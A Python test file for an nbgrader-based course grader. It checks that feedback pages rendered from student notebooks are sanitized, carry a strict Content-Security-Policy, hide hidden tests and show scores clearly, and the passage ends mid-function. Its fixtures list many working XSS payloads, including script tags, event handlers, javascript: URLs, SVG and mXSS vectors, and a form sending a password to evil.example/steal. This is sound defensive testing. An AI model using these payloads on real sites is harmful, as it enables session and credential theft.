"""Feedback pages: safe to open on the Jupyter origin, clear to read, without hidden tests.

Notebooks are built here with every attack we could think of, rendered by the course's
exporter and preprocessors exactly as nbgrader's ``GenerateFeedback`` builds them from
``nbgrader_config.py`` (only the gradebook lookup of ``GetGrades`` is replaced by fixed
scores), and the pages are checked by parsing them, as a browser would read them.
One slow test runs the whole pipeline on a hostile submission.
"""

from __future__ import annotations

import base64
import re
import struct
import zlib
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from conftest import FIXTURE_COURSE, fixture_course
from nbconvert.exporters import HTMLExporter
from nbconvert.preprocessors import Preprocessor
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from nbgrader.converters import GenerateFeedback
from nbgrader.coursedir import CourseDirectory
from traitlets import Bool, Dict
from traitlets.config.loader import PyFileConfigLoader

from course_grader.trusted.outputs.feedback import IMAGE_ALT

EVIL = "https://evil.example/"


# ---------------------------------------------------------------------- rendering as nbgrader does


class FixedGrades(Preprocessor):
    """The course's ``GetGrades`` without a gradebook: the scores of the cells are given (``None``: not graded yet)."""

    enabled = Bool(True)
    scores = Dict()

    def preprocess(self, nb, resources):
        for cell in nb.cells:
            nbgrader_metadata = cell.metadata.get("nbgrader", {})
            if nbgrader_metadata.get("grade_id") in self.scores:
                score, points = self.scores[nbgrader_metadata["grade_id"]]
                # as nbgrader: 0 until a TA grades it
                nbgrader_metadata.update(score=score or 0.0, points=points, needs_manual_grade=score is None)
        earned = sum(score or 0 for score, _ in self.scores.values())
        resources["nbgrader"].update(score=earned, max_score=sum(points for _, points in self.scores.values()), late_penalty=0)
        return nb, resources


def render_feedback(nb, scores: dict[str, tuple[float | None, float]], tmp_path: Path) -> str:
    """The feedback page of ``nb`` built with the course's ``GenerateFeedback`` configuration."""
    config = PyFileConfigLoader("nbgrader_config.py", path=str(FIXTURE_COURSE)).load_config()
    converter = GenerateFeedback(coursedir=CourseDirectory(root=str(tmp_path)), config=config)
    exporter = converter.exporter_class(parent=converter, config=converter.config)  # as BaseConverter.start
    for preprocessor in converter.preprocessors:
        if preprocessor == "course_grader.trusted.outputs.feedback.GetGradesAndWaiting":
            preprocessor = FixedGrades(scores=scores)
        exporter.register_preprocessor(preprocessor)
    resources = {"nbgrader": {"notebook": "geometry", "assignment": "01_geometry", "student": "mallory"}}
    page, _ = exporter.from_notebook_node(nb, resources=resources)
    return page


# ---------------------------------------------------------------------- reading the page


@dataclass
class Element:
    tag: str
    attrs: dict[str, str]
    parents: tuple[str, ...]
    text: str = ""
    children: list["Element"] = field(default_factory=list)

    def classes(self) -> set[str]:
        return set(self.attrs.get("class", "").split())


VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}


class Page(HTMLParser):
    """Every element of a page, in document order, with its attributes, ancestors and text."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[Element] = []
        self._open: list[Element] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        element = Element(tag, {name: value or "" for name, value in attrs}, tuple(e.tag for e in self._open))
        self.elements.append(element)
        if self._open:
            self._open[-1].children.append(element)
        if tag not in VOID:
            self._open.append(element)

    def handle_endtag(self, tag):
        for depth in range(len(self._open) - 1, -1, -1):
            if self._open[depth].tag == tag:
                del self._open[depth:]
                return

    def handle_data(self, data):
        for element in self._open:
            element.text += data

    def find(self, tag: str, **attrs: str) -> list[Element]:
        return [e for e in self.elements if e.tag == tag and all(e.attrs.get(k) == v for k, v in attrs.items())]

    def with_class(self, name: str) -> list[Element]:
        return [e for e in self.elements if name in e.classes()]


ACTIVE_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input", "button", "select",
    "textarea", "base", "link", "svg", "math", "template", "audio", "video", "source", "track", "portal",
    "noscript", "marquee", "isindex",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "background", "poster", "cite", "longdesc", "lowsrc",
                  "dynsrc", "ping", "codebase", "archive", "manifest", "xlink:href", "srcdoc", "srcset", "usemap"}
SAFE_IMAGE = re.compile(r"data:image/(png|jpeg|gif);base64,", re.IGNORECASE)


def normalised_url(value: str) -> str:
    """A URL as a browser resolves its scheme: ASCII whitespace and control characters dropped, lower case."""
    return re.sub(r"[\x00-\x20\x7f]", "", value).lower()


def active_content(page: Page) -> list[str]:
    """Everything in ``page`` that could run code, load something, send something or rewrite links."""
    problems = []
    for element in page.elements:
        where = f"<{element.tag}> in {'/'.join(element.parents[-3:])}"
        if element.tag in ACTIVE_TAGS:
            problems.append(f"{where}: active element")
        if element.tag == "meta" and element.attrs.get("http-equiv", "").lower() != "content-security-policy" \
                and ("http-equiv" in element.attrs or "head" not in element.parents):
            problems.append(f"{where}: meta {element.attrs}")
        if element.tag == "style" and "head" not in element.parents:
            problems.append(f"{where}: a style sheet outside the head")
        if element.tag == "style" and ("@import" in element.text or "url(" in element.text or "expression(" in element.text):
            problems.append(f"{where}: a style sheet that loads something")
        for name, value in element.attrs.items():
            if name.startswith("on"):
                problems.append(f"{where}: event handler {name}={value!r}")
            if name in ("style", "srcdoc", "srcset", "formaction", "action", "xlink:href", "http-equiv") \
                    and not (element.tag == "meta" and name == "http-equiv"):
                problems.append(f"{where}: attribute {name}={value!r}")
            if name in URL_ATTRIBUTES:
                url = normalised_url(value)
                if url.startswith(("javascript:", "vbscript:", "livescript:")):
                    problems.append(f"{where}: script URL {name}={value!r}")
                elif url.startswith("data:") and not (element.tag == "img" and name == "src" and SAFE_IMAGE.match(url)):
                    problems.append(f"{where}: data URL {name}={value[:60]!r}")
                elif element.tag == "img" and name == "src" and not url.startswith("data:"):
                    problems.append(f"{where}: an image from elsewhere {value!r}")
    return problems


def policy(page: Page) -> dict[str, set[str]]:
    """The Content-Security-Policy of ``page``: its directives, from the first element of its head."""
    head = page.find("head")
    assert head, "the page has no <head>"
    first = head[0].children[0]
    assert first.tag == "meta" and first.attrs.get("http-equiv", "").lower() == "content-security-policy", first
    directives = {}
    for directive in first.attrs["content"].split(";"):
        name, *values = directive.split()
        directives[name.lower()] = set(values)
    return directives


# ---------------------------------------------------------------------- notebooks


def nbgrader_cell(cell, grade_id: str, *, grade=False, solution=False, locked=False, points=None):
    cell.metadata["nbgrader"] = {"grade": grade, "grade_id": grade_id, "locked": locked, "solution": solution,
                                 "task": False, "schema_version": 3}
    if points is not None:
        cell.metadata["nbgrader"]["points"] = points
    return cell


def heading(text: str, grade_id: str):
    return nbgrader_cell(new_markdown_cell(f"## {text}\n\nWhat to write."), grade_id, locked=True)


def graded_test_cell(grade_id: str, outputs, visible="assert augment(np.zeros((1, 1))).shape == (1, 2)"):
    cell = new_code_cell(f"{visible}\n### BEGIN HIDDEN TESTS\nfrom course_grader.trusted.judging.checks import "
                         f"check_{grade_id}\ncheck_{grade_id}({grade_id})\n### END HIDDEN TESTS")
    cell.outputs = outputs
    return nbgrader_cell(cell, f"test_{grade_id}", grade=True, locked=True, points=2)


def png_bytes() -> bytes:
    """A real 1x1 PNG."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


PNG = base64.b64encode(png_bytes()).decode()
SVG_WITH_SCRIPT = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
WRONG_PREDICT = ("predict returned a wrong value on case 3 of 26\n"
                 "call: predict(np.array([0.0, 0.0]), 0.0, np.array([[3.0, 4.0]]))\n"
                 "expected: array([1])\n"
                 "received: array([-1])\n"
                 "the score is exactly 0 and must predict +1")

MARKDOWN_ATTACKS = [
    "<script>alert('markdown')</script>",
    "<img src=x onerror=alert(1)>",
    "[a markdown link](javascript:alert(1)) and ![an image](javascript:alert(1)) and ![svg](data:image/svg+xml;base64,"
    + base64.b64encode(SVG_WITH_SCRIPT.encode()).decode() + ")",
    '<a href="javascript:alert(1)">plain</a> <a href="JaVaScRiPt:alert(1)">cased</a> '
    '<a href="&#106;avascript:alert(1)">entity</a> <a href="java&#x09;script:alert(1)">tab</a> '
    '<a href=" javascript:alert(1)">space</a> <a href="vbscript:msgbox(1)">vb</a> '
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a> '
    '<a href="#" onclick="alert(1)">handler</a> <a href="//evil.example/">scheme-relative</a>',
    f'<iframe src="{EVIL}"></iframe><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf"><applet code="x"></applet>',
    f'<form action="{EVIL}steal"><input name="password" autofocus onfocus="alert(1)">'
    '<button formaction="javascript:alert(1)">go</button></form>',
    f'<meta http-equiv="refresh" content="0;url={EVIL}"><base href="{EVIL}">'
    f'<link rel="stylesheet" href="{EVIL}x.css">',
    '<svg onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>x</text></a>'
    '<animate onbegin="alert(4)" attributeName="x" dur="1s"/><foreignObject><iframe src="javascript:alert(5)">'
    "</iframe></foreignObject></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror=alert("mxss")></style></mglyph></table></mtext></math>'
    '<math href="javascript:alert(1)">x</math>',
    f'<style>@import url({EVIL}x.css); body {{ background: url("{EVIL}track.png") }}</style>',
    '<div style="background:url(javascript:alert(1))">styled</div><p style="width:expression(alert(1))">old IE</p>',
    '<details open ontoggle="alert(1)"><summary>s</summary>d</details><video><source onerror="alert(1)"></video>'
    '<audio src="x" onerror="alert(1)"></audio><marquee onstart="alert(1)">m</marquee>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'
    "<template><script>alert(1)</script></template><!--<img src=x onerror=alert(1)>-->",
    '</div></div></main></body></html><script>alert("escaped the body")</script><body onload="alert(1)">',
    '<img srcset="https://evil.example/a.png 1x" src="data:image/svg+xml;base64,'
    + base64.b64encode(SVG_WITH_SCRIPT.encode()).decode() + '"><img src="https://evil.example/pixel.png">',
    '<div class="part part-passed feedback-summary">dressed as a passed part</div>'
    '<h2 id="part-test_augment">a heading that takes the summary\'s link</h2><h3 id="top">and the way back</h3>',
]


def attack_notebook():
    """A student notebook where every place a student controls carries an attack."""
    nb = new_notebook()
    nb.metadata["title"] = "</title><script>alert('title')</script>"
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {}, "version_major": 2, "version_minor": 0, "x": "</script><script>alert('widget state')</script>"}}
    attachment = new_markdown_cell("![attached](attachment:evil.svg)")
    attachment["attachments"] = {"evil.svg": {"image/svg+xml": base64.b64encode(SVG_WITH_SCRIPT.encode()).decode()}}
    raw = new_raw_cell("<script>alert('raw cell')</script><img src=x onerror=alert(1)>")
    raw.metadata["raw_mimetype"] = "text/html"
    raw.metadata["format"] = "text/html"
    outputs = new_code_cell("show_everything()")
    outputs.metadata["tags"] = ['x" onmouseover="alert(1)']
    outputs.outputs = [
        new_output("display_data", data={"application/javascript": "alert('javascript output')"}),
        new_output("display_data", data={"text/html": "<script>alert(1)</script><img src=x onerror=alert(2)><b>bold</b>"
                                                      "<table><tr><td>kept</td></tr></table>", "text/plain": "html"}),
        new_output("display_data", data={"text/html": "<p>isolated</p>"}, metadata={"text/html": {"isolated": True}}),
        new_output("display_data", data={"application/vnd.jupyter.widget-view+json": {"model_id": "m", "version_major": 2,
                                                                                      "version_minor": 0}}),
        new_output("display_data", data={"image/svg+xml": SVG_WITH_SCRIPT}),
        new_output("display_data", data={"text/markdown": "<script>alert(1)</script>[x](javascript:alert(2))"}),
        new_output("display_data", data={"image/png": PNG}, metadata={"image/png": {"width": "1 onerror=alert(1)"}}),
        new_output("display_data", data={"image/png": PNG}, metadata={"filenames": {"image/png": "javascript:alert(1)"}}),
        new_output("display_data", data={"image/png": 'x" onerror="alert(1)'}),
        new_output("display_data", data={"image/jpeg": base64.b64encode(b"<script>alert(1)</script>").decode()}),
        new_output("display_data", data={"application/pdf": base64.b64encode(b"%PDF-1.4 /JS (alert(1))").decode()}),
        new_output("display_data", data={"text/latex": "$x$</div><script>alert('latex')</script>"}),
        new_output("execute_result", data={"text/plain": "<script>alert('plain')</script>"}, execution_count=1),
        new_output("stream", name="stdout", text="<script>alert('stream')</script>\x1b[31m<img src=x onerror=alert(1)>\x1b[0m"),
        new_output("error", ename="<script>alert('ename')</script>", evalue="<img src=x onerror=alert(1)>",
                   traceback=["\x1b[31m<script>alert('traceback')</script>\x1b[0m", "<iframe src=javascript:alert(1)>"]),
    ]
    solution = nbgrader_cell(new_code_cell("def augment(X):\n    return X"), 'augment"><script>alert(1)</script>', solution=True)
    solution.metadata["nbgrader"]["comment"] = "<script>alert('comment')</script>"
    nb.cells = [
        nbgrader_cell(new_markdown_cell("# Assignment 1\n\n" + "\n\n".join(MARKDOWN_ATTACKS)), "intro", locked=True),
        *[new_markdown_cell(attack) for attack in MARKDOWN_ATTACKS],
        attachment, raw, outputs,
        heading("1. The augmentation trick (2 points)", "augment_text"),
        solution,
        graded_test_cell("augment", [new_output("error", ename="HiddenTestsFailed", evalue="<script>alert('verdict')</script>",
                                         traceback=["HiddenTestsFailed: <script>alert('verdict')</script>"])]),
    ]
    return nb


def honest_notebook():
    """Two parts, the first passed and the second failed by a hidden check; a heading the student added in between."""
    nb = new_notebook()
    nb.cells = [
        nbgrader_cell(new_markdown_cell("# Assignment 1: the geometry of a linear separator"), "intro", locked=True),
        new_code_cell("import numpy as np"),
        heading("1. The augmentation trick (2 points)", "augment_text"),
        nbgrader_cell(new_code_cell("def augment(X):\n    return np.hstack([np.ones((len(X), 1)), X])"), "augment", solution=True),
        graded_test_cell("augment", [new_output("stream", name="stdout", text="augment: the visible tests pass\n"),
                              new_output("stream", name="stdout", text="augment: passed all 26 hidden cases\n")]),
        heading("2. Prediction (2 points)", "predict_text"),
        new_markdown_cell("## 2. Prediction: full marks, please"),  # the student's own heading: not the part's name
        nbgrader_cell(new_code_cell("def predict(w, b, X):\n    return np.sign(X @ w + b)"), "predict", solution=True),
        graded_test_cell("predict", [new_output("error", ename="HiddenTestsFailed", evalue=WRONG_PREDICT,
                                         traceback=[f"HiddenTestsFailed: {WRONG_PREDICT}"])],
                  visible="assert predict(np.array([1.0]), 0.0, np.array([[2.0]])).tolist() == [1]"),
    ]
    return nb


# ---------------------------------------------------------------------- safety


@pytest.fixture(scope="module")
def attack_page(tmp_path_factory):
    return render_feedback(attack_notebook(), {"test_augment": (0.0, 2.0)}, tmp_path_factory.mktemp("attack"))


def test_the_attack_notebook_is_valid_and_reaches_the_page(attack_page):
    nbformat.validate(attack_notebook())  # the attacks are in a notebook nbgrader would read
    shown = Page(attack_page).find("main")[0].text
    assert "dressed as a passed part" in shown and "kept" in shown and "bold" in shown  # harmless content survives
    assert "<script>alert('stream')</script>" in shown and "<script>alert('verdict')</script>" in shown  # as text


def test_no_page_element_or_attribute_can_run_load_or_send_anything(attack_page):
    page = Page(attack_page)
    assert active_content(page) == []
    assert not page.find("script") and "<script" not in attack_page.lower()


def test_outputs_a_kernel_made_invalid_are_shown_safely(tmp_path):
    nb = honest_notebook()
    cell = new_code_cell("raw_messages()")
    cell.outputs = [nbformat.from_dict({"output_type": "display_data", "metadata": {},
                                        "data": {"text/html": {"tag": "script"}, "text/plain": "kept"}}),
                    nbformat.from_dict({"output_type": "execute_result", "metadata": {}, "execution_count": "1 onclick=x",
                                        "data": {"text/plain": "<script>alert(1)</script>"}}),
                    nbformat.from_dict({"output_type": "stream", "name": "<script>", "text": "a stream of its own"}),
                    nbformat.from_dict({"output_type": "update_display_data", "data": {}, "metadata": {}})]
    nb.cells.insert(1, cell)
    with pytest.raises(nbformat.ValidationError):
        nbformat.validate(nb)
    page = Page(render_feedback(nb, {"test_augment": (2.0, 2.0), "test_predict": (0.0, 2.0)}, tmp_path))
    shown = page.find("main")[0].text
    assert "kept" in shown and "<script>alert(1)</script>" in shown and "a stream of its own" in shown
    assert "[an output of kind 'update_display_data': not shown in feedback]" in shown
    assert active_content(page) == []


def test_only_real_png_and_jpeg_images_are_shown(attack_page):
    sources = [element.attrs.get("src", "") for element in Page(attack_page).find("img")]
    assert sources.count(f"data:image/png;base64,{PNG}") == 2  # the two real PNGs, without their metadata
    assert all(source.startswith("data:image/png;base64,") or source == "" for source in sources), sources
    shown = [element for element in Page(attack_page).find("img") if element.attrs.get("src", "").startswith("data:")]
    assert [element.attrs.get("alt") for element in shown] == [IMAGE_ALT] * 2  # what the students' images say


def test_what_is_left_out_is_said(attack_page):
    shown = Page(attack_page).find("main")[0].text
    for left_out in ("application/javascript", "application/vnd.jupyter.widget-view+json", "image/svg+xml",
                     "application/pdf"):
        assert f"[{left_out}: not shown in feedback]" in shown, left_out


def test_the_page_forbids_scripts_frames_forms_and_outside_loads(attack_page):
    directives = policy(Page(attack_page))
    assert directives["default-src"] == {"'none'"}
    assert directives["script-src"] == {"'none'"}
    assert directives["style-src"] == {"'unsafe-inline'"}
    assert directives["img-src"] == {"data:"}
    for name in ("object-src", "frame-src", "child-src", "form-action", "base-uri", "connect-src"):
        assert directives[name] == {"'none'"}, name


def test_only_the_template_styles_the_page(attack_page):
    page = Page(attack_page)
    assert all(element.parents[-1:] == ("head",) for element in page.find("style"))
    assert not [element for element in page.elements if "style" in element.attrs]
    marked = page.with_class("part-passed") + page.with_class("feedback-summary")
    assert all(element.tag in ("header", "tr", "section") for element in marked), marked  # not the student's div


def test_the_summary_links_lead_to_the_template_parts(attack_page):
    page = Page(attack_page)
    for anchor, tag in (("part-test_augment", "section"), ("top", "header")):
        assert [element.tag for element in page.elements if element.attrs.get("id") == anchor] == [tag], anchor


def test_hidden_tests_stay_hidden(attack_page):
    shown = Page(attack_page).find("main")[0].text
    assert "hidden tests: not shown" in shown
    assert "check_augment" not in shown and "course_grader.trusted.judging.checks" not in shown


# ---------------------------------------------------------------------- clarity


@pytest.fixture(scope="module")
def honest_page(tmp_path_factory):
    scores = {"test_augment": (2.0, 2.0), "test_predict": (0.0, 2.0)}
    return Page(render_feedback(honest_notebook(), scores, tmp_path_factory.mktemp("honest")))


def test_the_summary_names_each_part_with_its_result_and_score(honest_page):
    table = honest_page.find("table")[0]
    rows = [row for row in honest_page.elements if row.tag == "tr" and "table" in row.parents]
    cells = [[" ".join(cell.text.split()) for cell in row.children] for row in rows]
    assert cells == [
        ["Part", "Result", "Score"],
        ["1. The augmentation trick (2 points)", "passed", "2 / 2"],
        ["2. Prediction (2 points)", "failed", "0 / 2"],
        ["Total", "", "2 / 4"],
    ]
    assert table.parents[-1] == "header" and "Test cell" not in honest_page.find("main")[0].text


def test_each_summary_row_links_to_its_part(honest_page):
    links = [a.attrs["href"] for a in honest_page.find("a") if "td" in a.parents]
    ids = {element.attrs.get("id") for element in honest_page.elements}
    assert len(links) == 2 and all(link.startswith("#") and link[1:] in ids for link in links)


def test_a_failed_part_shows_the_whole_message_in_an_error_box(honest_page):
    boxes = honest_page.with_class("feedback-error")
    assert len(boxes) == 1 and boxes[0].attrs.get("role") == "alert"
    messages = [child for child in boxes[0].children if child.tag == "pre"]
    assert [message.text for message in messages] == [WRONG_PREDICT]
    # issue 40: the box was headed with the class name `HiddenTestsFailed`
    assert [child.text for child in boxes[0].children if child.tag == "p"] == ["Hidden tests failed"]


def test_passed_and_failed_parts_are_marked_and_styled(honest_page):
    parts = {" ".join(s.children[0].text.split()): s.classes() for s in honest_page.find("section")}
    assert parts == {
        "1. The augmentation trick (2 points) passed · 2 / 2 (top)": {"part", "part-passed"},
        "2. Prediction (2 points) failed · 0 / 2 (top)": {"part", "part-failed"},
    }
    style = " ".join(element.text for element in honest_page.find("style"))
    for selector in (".feedback-error", "section.part-failed", "section.part-passed"):
        rule = re.search(re.escape(selector) + r"\s*\{([^}]*)\}", style)
        assert rule and "border" in rule.group(1), selector
    assert re.search(r"\.feedback-error\s*\{[^}]*background", style)


def test_a_written_answer_not_yet_graded_says_so(tmp_path):
    nb = honest_notebook()
    answer = nbgrader_cell(new_markdown_cell("The margin is the smallest distance."), "why_margin", grade=True, solution=True, points=1)
    nb.cells += [heading("3. Why a margin? (1 point)", "why_text"), answer]
    scores = {"test_augment": (2.0, 2.0), "test_predict": (1.0, 2.0), "why_margin": (None, 1.0)}
    page = Page(render_feedback(nb, scores, tmp_path))
    rows = [[" ".join(c.text.split()) for c in row.children] for row in page.find("tr")]
    assert ["2. Prediction (2 points)", "partly passed", "1 / 2"] in rows
    assert ["3. Why a margin? (1 point)", "not graded yet", "– / 1"] in rows


# ---------------------------------------------------------------------- the whole pipeline


@pytest.mark.slow
def test_autograded_notebooks_keep_nothing_active_and_render_markdown_within_a_budget():
    from course_grader.trusted.outputs.feedback import MAX_MARKDOWN_OUTPUT_CHARS, SafeToRender

    locked = new_markdown_cell("## Part 1 <b>by the instructor</b>", metadata={"nbgrader": {"locked": True, "grade_id": "h"}})
    answer = new_markdown_cell("[a link](javascript:alert(1)) and <script>alert(2)</script>**kept**")
    big = "[" * (MAX_MARKDOWN_OUTPUT_CHARS // 2 + 1)
    code = new_code_cell("x", outputs=[
        new_output("display_data", data={"text/markdown": "[md](javascript:alert(3)) *fine*"}),
        new_output("display_data", data={"text/html": "<img src=x onerror=alert(4)><b>bold</b>"}),
        new_output("display_data", data={"text/markdown": big}), new_output("display_data", data={"text/markdown": big}),
    ])
    notebook, _ = SafeToRender().preprocess(new_notebook(cells=[locked, answer, code]), {})
    assert notebook.cells[0].source == "## Part 1 <b>by the instructor</b>"
    assert "javascript" not in notebook.cells[1].source and "<script" not in notebook.cells[1].source
    assert "<strong>kept</strong>" in notebook.cells[1].source
    first, html, within, beyond = (output.data for output in notebook.cells[2].outputs)
    assert "javascript" not in first["text/html"] and "<em>fine</em>" in first["text/html"] and "text/markdown" not in first
    assert html["text/html"] == "<img><b>bold</b>"
    # The formgrader binds each score box to the element whose id is the grade id: no student id survives.
    clobber = new_markdown_cell('<h6 id="test_radius">x</h6>\n\n# test_radius', metadata={"nbgrader": {"grade_id": "why"}})
    cleaned, _ = SafeToRender().preprocess(new_notebook(cells=[clobber]), {})
    assert "id=" not in cleaned.cells[0].source and "test_radius" in cleaned.cells[0].source
    assert "text/html" in within and list(beyond) == ["text/plain"] and "not rendered" in beyond["text/plain"]


def test_a_graded_hostile_submission_gets_a_safe_and_clear_page(tmp_path):
    from course_grader.trusted.course.example_class import build_example_class, copy_course
    from course_grader.trusted.pipeline import grade

    course = copy_course(fixture_course(), tmp_path / "course")
    build_example_class(course, Path(__file__).resolve().parent / "fixtures" / "feedback_class")
    outcomes = {outcome.assignment: outcome for outcome in grade(course, progress=False, jobs=1)}
    assert set(outcomes) == {"01_geometry", "04_convergence"}
    outcome = outcomes["01_geometry"]
    assert outcome.status == "graded" and outcome.score == 6, (outcome.status, outcome.reason, outcome.cell_scores)
    text = (course.feedback / "xss_mallory" / "01_geometry" / "geometry.html").read_text(encoding="utf-8")
    page = Page(text)
    assert active_content(page) == [] and "<script" not in text.lower()
    assert policy(page)["script-src"] == {"'none'"}
    rows = [[" ".join(cell.text.split()) for cell in row.children] for row in page.find("tr")]
    assert rows[1:] == [
        ["1. The augmentation trick (2 points)", "passed", "2 / 2"],
        ["2. Prediction (2 points)", "failed", "0 / 2"],
        ["3. Signed distance (2 points)", "passed", "2 / 2"],
        ["4. Margin of a data set with respect to a separator (2 points)", "passed", "2 / 2"],
        ["Total", "", "6 / 8"],
    ]
    [box] = page.with_class("feedback-error")
    [message] = [child for child in box.children if child.tag == "pre"]
    assert message.text.startswith("predict returned a wrong") and "\n" in message.text.strip()
    shown = page.find("main")[0].text
    assert "bold output" in shown and "<script>alert('printed')</script>" in shown
    assert "check_predict" not in shown
    convergence = Page((course.feedback / "xss_mallory" / "04_convergence" / "convergence.html").read_text(encoding="utf-8"))
    rows = [[" ".join(cell.text.split()) for cell in row.children] for row in convergence.find("tr")]
    assert ["6. In your own words: the bias (2 points, graded by hand)", "not graded yet", "– / 2"] in rows
    assert ["5. The bound for the perceptron with a bias (3 points)", "passed", "3 / 3"] in rows
    # What the formgrader shows the TA is the autograded notebook, rendered as it is: nothing active in it.
    autograded = nbformat.read(course.root / "autograded" / "xss_mallory" / "01_geometry" / "geometry.ipynb", as_version=4)
    body, _ = HTMLExporter(template_name="basic", sanitize_html=False).from_notebook_node(autograded)
    assert active_content(Page(body)) == [] and "<script" not in body.lower()
    assert "bold output" in body and "a link" in body  # the harmless part of what the student wrote stays


HOSTILE_ANSWER = (Path(__file__).resolve().parent / "fixtures" / "formgrader" / "hostile_answer.md").read_text(encoding="utf-8")


@pytest.mark.parametrize("passes", [1, 2, 3])
def test_a_written_answer_is_inert_after_any_number_of_markdown_passes(passes):
    from nbconvert.filters.markdown import markdown2html

    from course_grader.trusted.outputs.feedback import SafeToRender

    answer = new_markdown_cell(HOSTILE_ANSWER, metadata={"nbgrader": {"grade_id": "why_augmented", "solution": True, "grade": True}})
    [stored] = SafeToRender().preprocess(new_notebook(cells=[answer]), {})[0].cells
    rendered = stored.source
    for _ in range(passes):  # what the formgrader (and any other renderer) does with a markdown cell
        rendered = markdown2html(rendered)
    assert rendered.strip() == stored.source  # the later passes change nothing
    page = Page(rendered)
    assert active_content(page) == []
    assert [element.attrs for element in page.elements if "id" in element.attrs] == []
    links = [element.attrs.get("href", "") for element in page.elements if element.tag == "a"]
    assert links and not any(normalised_url(href).startswith("javascript:") for href in links), links
    text = " ".join(element.text for element in page.elements)
    assert "markdown link" in text and "test_radius" in text  # the answer is still there to read


def test_each_thread_keeps_one_template_environment_whose_filters_are_the_rendering_exporters():
    import copy
    import threading

    from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

    from course_grader.trusted.outputs import feedback

    script = new_output("display_data", data={"application/javascript": "alert(2)", "text/plain": "<js>"})
    notebook = new_notebook(cells=[new_markdown_cell("# Part 1\nSome *text* <script>alert(1)</script>"),
                                   new_code_cell("x = 1\nprint(x)", outputs=[new_output("stream", name="stdout", text="1\n"), script])])
    notebook.metadata["language_info"] = {"name": "python"}

    def render() -> tuple:
        exporter = feedback.FeedbackHTMLExporter()
        resources = {"nbgrader": {"score": 1, "max_score": 2, "notebook": "nb", "assignment": "a", "late_penalty": 0}}
        return exporter, exporter.from_notebook_node(copy.deepcopy(notebook), resources)[0]

    feedback._ENVIRONMENTS.__dict__.clear()
    first, first_page = render()
    second, second_page = render()
    assert second.environment is first.environment and second_page == first_page
    assert second.environment.filters["markdown2html"].__self__ is second  # not the exporter before
    assert "Some <em>text</em>" in second_page and "alert(1)" not in second_page and "alert(2)" not in second_page
    page_of_the_notebook_itself = second.from_notebook_node(notebook, {"nbgrader": {  # not a copy: left as it was
        "score": 1, "max_score": 2, "notebook": "nb", "assignment": "a", "late_penalty": 0}})[0]
    assert page_of_the_notebook_itself == first_page and notebook.cells[1].outputs[1] == script
    in_thread = []
    worker = threading.Thread(target=lambda: in_thread.append(render()))
    worker.start()
    worker.join()
    assert in_thread[0][0].environment is not first.environment and in_thread[0][1] == first_page


def test_a_cell_is_highlighted_once_whatever_its_metadata_unless_it_names_a_magics_language():
    from nbconvert.filters.highlight import Highlight2HTML

    from course_grader.trusted.outputs import feedback

    calls = []

    class Counted(Highlight2HTML):
        def __call__(self, source, language=None, metadata=None):
            calls.append(source)
            return super().__call__(source, language, metadata)

    feedback._HIGHLIGHTED.clear()
    highlight = feedback.RememberedHighlight(Counted(pygments_lexer="ipython3"))
    graded = {"nbgrader": {"grade": True, "grade_id": "test_radius", "points": 2}}
    source = "%%bash\necho $((1 + 2))"
    python_page = highlight(source, metadata=graded)
    assert highlight(source, metadata={"nbgrader": {"grade_id": "another"}}) == python_page and calls == [source]
    bash_page = highlight(source, metadata={**graded, "magics_language": "bash"})
    assert bash_page != python_page and calls == [source, source]  # bash's lexer, not remembered Python
    assert highlight(source, metadata={"magics_language": "bash"}) == bash_page and len(calls) == 2


def test_code_is_highlighted_as_ipythons_lexer_highlights_it_with_pythons_where_that_is_the_same():
    import json

    from nbconvert.filters.highlight import Highlight2HTML

    from course_grader.trusted.outputs import feedback

    class Counted(Highlight2HTML):
        calls = 0

        def __call__(self, source, language=None, metadata=None):
            Counted.calls += 1
            return super().__call__(source, language, metadata)

    ipython = Counted(pygments_lexer="ipython3")
    sources = [
        "".join(cell["source"]) for path in sorted([*FIXTURE_COURSE.glob("source/*/*.ipynb"),
                                                     *FIXTURE_COURSE.glob("notebooks/*.ipynb")])
        for cell in json.loads(path.read_text(encoding="utf-8"))["cells"] if cell["cell_type"] == "code"
    ]
    assert len(sources) >= 50  # every code cell of the fixture course (55): a sample of real course code
    tricky = ["", "\n\n", "x = n%k", "r = a % b\n", "print('done!')", "a != b", "np.sum?", "%timeit f(1)",
              "!ls -l\nx = 1", "x = 1\r\n%time y = 2\r\n", "\ufeffprint(1)", "f(x)\r", "s = '?'", "%%bash\necho hi",
              "def f():\n    return 100%3\n\n\n", "w = 2 ** 3  # 100% sure?"]
    for source in sources + tricky:
        assert feedback.highlight_code_html(ipython, source) == Highlight2HTML(pygments_lexer="ipython3")(source), source
    assert Counted.calls < len(sources) / 2  # most of the course's code takes Python's lexer
    # a magic still gets IPython's lexer, so its page differs from Python's own
    assert feedback.highlight_code_html(ipython, "%timeit f(1)") != Highlight2HTML(pygments_lexer="python")("%timeit f(1)")


def test_a_pasted_image_costs_an_honest_student_nothing_and_shows_on_the_page(tmp_path):
